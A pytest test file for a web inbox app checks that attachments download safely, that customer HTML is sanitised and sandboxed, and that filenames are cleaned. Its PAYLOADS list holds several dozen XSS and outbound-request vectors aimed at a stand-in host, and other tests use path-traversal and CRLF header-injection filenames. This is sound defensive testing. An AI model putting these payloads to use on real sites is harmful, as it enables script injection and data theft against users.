"""What leaves the pages as bytes."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from inbox.web.downloads import cleaned_html, disposition, document, is_manageable, safe_name
from inbox.web.language import Language, load
from tests.inbox.web.office import Browser, Pages, mail
from tests.tickets.desk import OFFICE
from tickets.models import Message, MessageFile

ENGLISH: Language = load(["en"], OFFICE.timezone)["en"]
HOSTILE = "<svg onload=alert(1)><script>alert(2)</script>"


def files(office: Pages) -> dict[str, MessageFile]:
    with office.app.store.reading() as session:
        return {file.name: file for file in session.scalars(select(MessageFile))}


def test_attachment_is_downloaded_whole_and_never_shown(office: Pages, ana: Browser) -> None:
    scan, page = b"%PDF-1.4\x00\xff" * 1000, HOSTILE.encode()
    office.file(mail(files=(("constatare.pdf", "application/pdf", scan), ("poza.html", "text/html", page))))
    found = files(office)

    pdf, html = (ana.get(f"/files/{found[name].id}") for name in ("constatare.pdf", "poza.html"))

    assert (pdf.content, pdf.headers["content-type"]) == (scan, "application/pdf")
    assert (html.content, html.headers["content-type"]) == (page, "application/octet-stream")
    for answer in (pdf, html):
        assert answer.headers["content-disposition"].startswith("attachment; ")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
        assert answer.headers["cache-control"] == "no-store"


def test_file_whose_bytes_are_not_in_the_message_is_not_found(office: Pages, ana: Browser) -> None:
    office.file(mail(files=(("a.pdf", "application/pdf", b"x"),)))
    file = files(office)["a.pdf"]
    with office.app.store.writing() as session:
        session.get_one(MessageFile, file.id).part = "77"

    assert ana.get(f"/files/{file.id}").status_code == 404
    assert ana.get("/files/999").status_code == 404


def test_customers_html_is_shown_cleaned_in_a_frame_that_may_do_nothing(office: Pages, ana: Browser) -> None:
    sent = f"<p>Bună <b>ziua</b></p>{HOSTILE}<img src='https://tracker.example/x.png'><form action=/x><input></form>"
    office.file(mail(html=sent))
    with office.app.store.reading() as session:
        message = session.scalars(select(Message).where(Message.has_html)).first()
    assert message is not None

    answer = ana.get(f"/messages/{message.id}/html")

    policy = answer.headers["content-security-policy"]
    assert policy.startswith("sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:;")
    assert "frame-ancestors 'self'" in policy
    assert answer.headers["x-frame-options"] == "SAMEORIGIN"
    assert "Bună <b>ziua</b>" in answer.text
    assert "1 imagine din afară nu este încărcată" in answer.text
    assert not any(word in answer.text for word in ("alert", "tracker", "<form", "<input", "<svg"))


def test_message_of_ours_has_no_raw_form(office: Pages, ana: Browser) -> None:
    office.file_mail()

    assert ana.get(f"/messages/{office.outgoing()[0].message_id}/html").status_code == 404
    assert ana.get("/messages/999/html").status_code == 404


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("factura.pdf", "factura.pdf"),
        ("../../etc/passwd", "_.._etc_passwd"),
        ("..\\..\\x.exe", "_.._x.exe"),
        ("\u200b.htaccess", "htaccess"),
        ("fac\u202efdp.exe", "facfdp.exe"),
        ("CON", "_CON"),
        ("nul.txt", "_nul.txt"),
        ("", "file"),
        ("...", "file"),
        ("a\r\nSet-Cookie: x=1", "aSet-Cookie_ x=1"),
        ('a"; filename="b.exe', "a__ filename=_b.exe"),
        ("poză ș ț.jpg", "poză ș ț.jpg"),
    ],
)
def test_file_name_is_only_a_name(name: str, shown: str) -> None:
    assert safe_name(name) == shown


def test_very_long_file_name_keeps_its_ending() -> None:
    assert safe_name("a" * 4000 + ".pdf").endswith("a.pdf")
    assert len(safe_name("a" * 4000 + ".pdf")) <= 120


@given(st.text())
def test_no_file_name_breaks_out_of_its_header(name: str) -> None:
    header = disposition(name)

    assert header.isascii()
    assert header.isprintable()
    plain = header.removeprefix('attachment; filename="').split('"')[0]
    assert plain
    assert not set(plain) & set('\\/";%')
    assert header.endswith(header.split("filename*=")[1])
    assert header.count('"') == 2


PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>",
    "<p style='background-image:url(//evil.example/x)'>",
    "<div style='position:fixed;inset:0'>",
    "<table background=//evil.example/x.png><tr><td>",
    "<form action=//evil.example><button formaction=//evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='//evil.example' ping='//evil.example'>x</a>",
    "<img src='//evil.example/x'><img srcset='//evil.example/x 1x'><picture><source srcset='//evil.example/y'>",
    "<video poster=//evil.example/x><audio src=//evil.example/x><track src=//evil.example/x>",
    "<img src='data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<img src='http://evil.example/?",
    "<body onload=alert(1) background='//evil.example/x'>",
    "<script src=//evil.example/x.js></script>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaned_html_neither_acts_nor_reaches_outside(payload: str) -> None:
    cleaned, _blocked = cleaned_html(f"<p>before</p>{payload}")
    lowered = cleaned.lower()

    assert "before" in cleaned
    for word in ("evil.example", "<script", "<svg", "<iframe", "<style", "<form", "javascript:", "fixed", "data:text"):
        assert word not in lowered.split("<img title")[0]
    assert " on" not in "".join(part.split(">")[0] for part in lowered.split("<")[1:]).replace("title", "")


def test_picture_inside_the_message_is_kept() -> None:
    picture = "data:image/png;base64,iVBORw0KGgo="

    assert cleaned_html(f"<img src='{picture}' alt='poza'>") == (f'<img src="{picture}" alt="poza">', 0)


def test_html_that_would_show_nothing_is_replaced_by_the_text() -> None:
    page = document("<img src='https://tracker.example/x'>&nbsp;<p> </p>", "Bună ziua <b>", language=ENGLISH)

    assert "<pre>" not in page or "Bună ziua &lt;b&gt;" in page
    assert "1 picture from outside is not loaded" in page


def test_message_without_html_is_shown_as_text() -> None:
    assert "<pre>Bună ziua &lt;b&gt;</pre>" in document(None, "Bună ziua <b>", language=ENGLISH)


@pytest.mark.parametrize("tag", ["div", "blockquote", "span", "table", "font"])
def test_bottomless_html_is_shown_as_text_at_once(tag: str) -> None:
    begun = time.perf_counter()
    page = document(f"<{tag}>" * 100_000, "the words", language=ENGLISH)

    assert time.perf_counter() - begun < 1
    assert "the words" in page


def test_ordinary_newsletter_is_not_called_bottomless() -> None:
    assert is_manageable("<table><tr><td><div><p>x</div></td></tr></table>" * 2000)
